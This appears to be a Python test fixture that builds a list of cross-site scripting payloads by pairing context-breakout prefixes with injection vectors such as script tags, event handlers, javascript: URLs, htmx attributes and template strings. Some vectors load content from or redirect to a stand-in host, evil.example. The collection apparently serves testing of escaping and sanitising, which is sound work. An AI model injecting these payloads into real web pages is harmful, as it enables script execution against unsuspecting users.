"""Texts that become scripts where somebody takes them for markup: ways out of where a text stands,
times what would run there.
"""

from collections.abc import Sequence

_OUT = ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", '" autofocus x="')
_VECTORS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<body onload=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<iframe src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>x",
    "<a href=javascript:alert(1) id=x>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<object data=javascript:alert(1)>",
    "<style>@import '//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<div hx-get=/items hx-trigger=load>x</div>",
    "<div hx-on:load=alert(1) data-hx-on:click=alert(1)>x</div>",
    '<meta name="htmx-config" content=\'{"includeIndicatorCSS": true}\'>',
    "<template><script>alert(1)</script></template>",
    "onmouseover=alert(1) onfocus=alert(1) style=color:red",
    "{{ 7 * 7 }}{% raw %}${alert(1)}",
    "javascript:alert(1)//&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e \u202e\u2066",
)
PAYLOADS: Sequence[str] = [f"{out}{vector}" for vector in _VECTORS for out in _OUT]
